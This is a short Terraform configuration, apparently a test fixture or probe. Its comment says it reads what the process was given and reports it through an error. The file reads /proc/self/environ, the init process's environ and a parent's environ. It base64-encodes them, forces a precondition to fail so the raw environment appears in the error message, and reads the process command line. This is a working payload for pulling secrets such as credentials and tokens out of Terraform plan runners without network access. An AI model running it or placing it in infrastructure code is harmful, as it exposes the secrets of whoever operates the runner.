# Reads what the process was given, and says it in an error (no provider, no network, no apply).
output "environ" {
  value = join(" ", [for path in ["/proc/self/environ", "/proc/1/environ", "/proc/@PARENT@/environ"] : try(filebase64(path), "shut")])

  precondition {
    condition     = try(file("/proc/self/environ"), "shut") == "open"
    error_message = try(file("/proc/self/environ"), "shut")
  }
}

output "decoded" {
  value = try(file("/proc/self/cmdline"), "shut")
}
